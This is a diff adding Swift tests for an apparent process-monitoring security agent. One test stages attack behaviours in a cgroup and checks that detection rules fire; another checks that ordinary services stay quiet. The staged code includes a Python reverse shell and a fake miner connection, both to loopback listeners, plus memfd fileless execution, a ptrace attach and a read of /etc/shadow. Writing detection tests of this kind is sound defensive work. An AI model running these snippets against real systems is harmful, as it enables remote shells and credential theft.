@@ -1,0 +1,193 @@
+import Foundation
+import Testing
+
+/// A subject that acted before its window opened is judged as found: each of these
+/// was started before the window and is still running through it, and each is
+/// caught at activation by an alert naming it, marked found.
+extension RealKernelTests {
+    @Test func whatASubjectStartedBeforeTheWindowIsJudgedAsFound() throws {
+        let mount = try cgroupMount()
+        let cgroup = "\(mount)/witness-found-\(UUID().uuidString.prefix(8))"
+        try FileManager.default.createDirectory(atPath: cgroup, withIntermediateDirectories: false)
+        let dir = try Scratch.directory("found")
+        let tag = UUID().uuidString.prefix(8)
+        // Peers outside the subject: a reverse shell's listener and a "mining pool".
+        let listeners = try LoopbackListeners(count: 2)
+        let shellPort = listeners.ports[0]
+        let poolPort = 3333
+        let pool = try LoopbackListeners(fixedPort: poolPort)
+        let d = dir.path
+        let python = { (name: String, code: String) -> String in
+            "cat > \(d)/\(name).py <<'PY'\n\(code)\nPY\n(python3 \(d)/\(name).py &)\n"
+        }
+        let script = """
+            echo $$ > \(cgroup)/cgroup.procs
+            cp /bin/sleep /dev/shm/dropped-\(tag); (/dev/shm/dropped-\(tag) 30 &)
+            cp /bin/sleep \(d)/deleted; (\(d)/deleted 31 &); sleep 0.2; rm -f \(d)/deleted
+            \(python("memfd", "import os\nfd = os.memfd_create('payload')\nos.write(fd, open('/bin/sleep', 'rb').read())\nos.execv('/proc/self/fd/%d' % fd, ['payload', '32'])"))
+            \(python("reverse", "import os, socket\ns = socket.create_connection(('127.0.0.1', \(shellPort)))\nos.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.execv('/bin/sh', ['sh', '-c', 'sleep 33'])"))
+            \(python("miner", "import socket, time\ns = socket.create_connection(('127.0.0.1', \(poolPort)))\nfor _ in range(40):\n    s.send(b'{\"method\":\"submit\"}')\n    time.sleep(1)"))
+            \(python("shadow", "import time\nf = open('/etc/shadow')\ntime.sleep(34)"))
+            (python3 -c 'import socket, time; s = socket.socket(); s.bind(("127.0.0.1", 0)); s.listen(1); time.sleep(35)' &)
+            \(python("tracer", "import ctypes, os, time\npid = os.fork()\nif pid == 0:\n    time.sleep(36)\n    os._exit(0)\nlibc = ctypes.CDLL(None, use_errno=True)\nlibc.ptrace(0x4206, pid, 0, 0)  # PTRACE_SEIZE\ntime.sleep(36)"))
+            sleep 1.5
+            """
+        #expect(Self.runDetaching(script) == 0)
+        defer {
+            _ = try? Scratch.shell("for p in $(cat \(cgroup)/cgroup.procs); do kill -9 $p; done; sleep 0.3")
+            rmdir(cgroup)
+            unlink("/dev/shm/dropped-\(tag)")
+            try? FileManager.default.removeItem(at: dir)
+        }
+        let result = try Agent.run(["witness", "--cgroup", cgroup, "--window", "2s", "--output", "json"], timeout: 60)
+        let lines = result.jsonLines()
+        let alerts = lines.filter { $0["rule"] != nil }
+        let found = alerts.filter { $0["found"] as? Bool == true }
+        let rules = Set(found.map { $0["rule"] as? String ?? "" })
+        for expected in [
+            "Execution from shared memory", "Program run after its file was deleted", "Fileless execution",
+            "Program run with its standard streams on the network", "Connection to a mining or reverse-shell port",
+            "Read sensitive file by untrusted program", "Listener opened by a shell, relay tool or interpreter one-liner",
+            "Ptrace attach to another process",
+        ] {
+            #expect(rules.contains(expected), "found and judged: \(expected); fired: \(rules.sorted())")
+        }
+        for alert in found {
+            #expect((alert["output_fields"] as? [String: Any])?["witness.found"] as? Bool == true)
+        }
+        // The found name of a file is the live name of the same file.
+        let shadow = found.first { $0["rule"] as? String == "Read sensitive file by untrusted program" }
+        #expect((shadow?["output_fields"] as? [String: Any])?["fd.name"] as? String == "/etc/shadow")
+        let testimony = try #require(lines.last)
+        let summary = try #require(testimony["found"] as? [String: Any])
+        #expect((summary["processes"] as? Int ?? 0) >= 8)
+        #expect((summary["matched"] as? [String: Int])?["Fileless execution"] == 1)
+        #expect((testimony["subject"] as? [String: Any])?["witnessedFromStart"] as? Bool == false)
+        let gate = try #require(testimony["gate"] as? [String: Any])
+        #expect(gate["verdictHint"] as? String == "DENY")
+        #expect(gate["bonus"] as? Double == 0)
+        withExtendedLifetime((listeners, pool)) {}
+    }
+}
+
+extension RealKernelTests {
+    /// Runs `sh -c script` to completion with posix_spawn and waitpid: Foundation's
+    /// Process reports a child running while anything it started still holds an
+    /// inherited descriptor, and these scripts leave processes running on purpose.
+    static func runDetaching(_ script: String) -> Int32 {
+        var pid: pid_t = 0
+        let words: [String] = ["/bin/sh", "-c", script]
+        let arguments: [UnsafeMutablePointer<CChar>?] = words.map { strdup($0) } + [nil]
+        defer { arguments.forEach { free($0) } }
+        var actions = posix_spawn_file_actions_t()
+        posix_spawn_file_actions_init(&actions)
+        defer { posix_spawn_file_actions_destroy(&actions) }
+        posix_spawn_file_actions_addopen(&actions, 0, "/dev/null", O_RDONLY, 0)
+        posix_spawn_file_actions_addopen(&actions, 1, "/dev/null", O_WRONLY, 0)
+        guard posix_spawn(&pid, "/bin/sh", &actions, nil, arguments, environ) == 0 else { return -1 }
+        var status: Int32 = 0
+        while waitpid(pid, &status, 0) < 0 && errno == EINTR {}
+        return (status >> 8) & 0xFF
+    }
+}
+
+/// TCP listeners on loopback, in this process (outside any subject), that accept
+/// connections and hold them open.
+final class LoopbackListeners: @unchecked Sendable {
+    private(set) var ports: [Int] = []
+    private var sockets: [Int32] = []
+
+    convenience init(count: Int) throws {
+        try self.init(ports: Array(repeating: 0, count: count))
+    }
+
+    convenience init(fixedPort: Int) throws {
+        try self.init(ports: [fixedPort])
+    }
+
+    private init(ports wanted: [Int]) throws {
+        for port in wanted {
+            let fd = socket(AF_INET, Int32(SOCK_STREAM.rawValue), 0)
+            var one: Int32 = 1
+            setsockopt(fd, SOL_SOCKET, SO_REUSEADDR, &one, 4)
+            var address = sockaddr_in()
+            address.sin_family = sa_family_t(AF_INET)
+            address.sin_port = in_port_t(UInt16(port).bigEndian)
+            address.sin_addr.s_addr = UInt32(0x7F00_0001).bigEndian
+            let bound = withUnsafePointer(to: &address) {
+                $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { bind(fd, $0, socklen_t(MemoryLayout<sockaddr_in>.size)) }
+            }
+            guard bound == 0, listen(fd, 16) == 0 else { throw CancellationError() }
+            var length = socklen_t(MemoryLayout<sockaddr_in>.size)
+            withUnsafeMutablePointer(to: &address) {
+                _ = $0.withMemoryRebound(to: sockaddr.self, capacity: 1) { getsockname(fd, $0, &length) }
+            }
+            ports.append(Int(UInt16(bigEndian: address.sin_port)))
+            sockets.append(fd)
+            // Accepted connections are held (never closed) until the process ends.
+            Thread.detachNewThread {
+                while true {
+                    let client = accept(fd, nil, nil)
+                    if client < 0 { return }
+                }
+            }
+        }
+    }
+
+    deinit {
+        for fd in sockets { shutdown(fd, Int32(SHUT_RDWR)); close(fd) }
+    }
+}
+
+extension RealKernelTests {
+    /// Honest services started before the window and found running: judged as found,
+    /// they raise nothing at any priority, and the window passes (without the bonus:
+    /// what they did before it was not seen).
+    @Test func honestServicesFoundRunningRaiseNothing() throws {
+        let mount = try cgroupMount()
+        let cgroup = "\(mount)/witness-services-\(UUID().uuidString.prefix(8))"
+        try FileManager.default.createDirectory(atPath: cgroup, withIntermediateDirectories: false)
+        let dir = try Scratch.directory("services")
+        let d = dir.path
+        chmod(d, 0o755)
+        let ports = (0..<5).map { _ in LoopbackPort.next() }
+        let pg = "/usr/lib/postgresql/15/bin"
+        let script = """
+            echo $$ > \(cgroup)/cgroup.procs
+            mkdir -p \(d)/nginx/logs \(d)/www \(d)/redis \(d)/pg
+            echo hello > \(d)/www/index.html
+            cat > \(d)/nginx/nginx.conf <<'CONF'
+            worker_processes 2;
+            pid \(d)/nginx/nginx.pid;
+            error_log \(d)/nginx/logs/error.log;
+            events { worker_connections 64; }
+            http { access_log \(d)/nginx/logs/access.log; server { listen 127.0.0.1:\(ports[0]); root \(d)/www; } }
+            CONF
+            /usr/sbin/nginx -p \(d)/nginx -c \(d)/nginx/nginx.conf > /dev/null 2>&1
+            (redis-server --port \(ports[1]) --bind 127.0.0.1 --save '' --appendonly no --dir \(d)/redis > /dev/null 2>&1 &)
+            (memcached -u nobody -p \(ports[2]) -l 127.0.0.1 -t 4 -U 0 > /dev/null 2>&1 &)
+            (cd \(d)/www && python3 -m http.server \(ports[3]) --bind 127.0.0.1 > /dev/null 2>&1 &)
+            chown postgres \(d)/pg
+            su postgres -s /bin/sh -c '\(pg)/initdb -D \(d)/pg/data -A trust > /dev/null 2>&1 && \(pg)/pg_ctl -D \(d)/pg/data -o "-p \(ports[4]) -k \(d)/pg -c listen_addresses=127.0.0.1" -l \(d)/pg/log start > /dev/null 2>&1'
+            sleep 1
+            curl -s http://127.0.0.1:\(ports[0])/ > /dev/null; curl -s http://127.0.0.1:\(ports[3])/ > /dev/null
+            """
+        #expect(Self.runDetaching(script) == 0)
+        defer {
+            _ = try? Scratch.shell("su postgres -s /bin/sh -c '\(pg)/pg_ctl -D \(d)/pg/data stop -m immediate' > /dev/null 2>&1; for p in $(cat \(cgroup)/cgroup.procs); do kill -9 $p; done; sleep 0.5")
+            rmdir(cgroup)
+            try? FileManager.default.removeItem(at: dir)
+        }
+        let result = try Agent.run(["witness", "--cgroup", cgroup, "--window", "2s", "--output", "json"], timeout: 60)
+        let lines = result.jsonLines()
+        let alerts = lines.filter { $0["rule"] != nil }
+        #expect(alerts.isEmpty, "honest services, found: \(alerts.map { "\($0["rule"] ?? "") \($0["output"] ?? "")" })")
+        let testimony = try #require(lines.last)
+        let found = try #require(testimony["found"] as? [String: Any])
+        #expect((found["processes"] as? Int ?? 0) >= 6, "nginx, redis, memcached, python, postgres: \(found)")
+        let gate = try #require(testimony["gate"] as? [String: Any])
+        #expect(gate["passed"] as? Bool == true)
+        #expect(gate["deduction"] as? Double == 0)
+        #expect(gate["bonus"] as? Double == 0)
+    }
+}
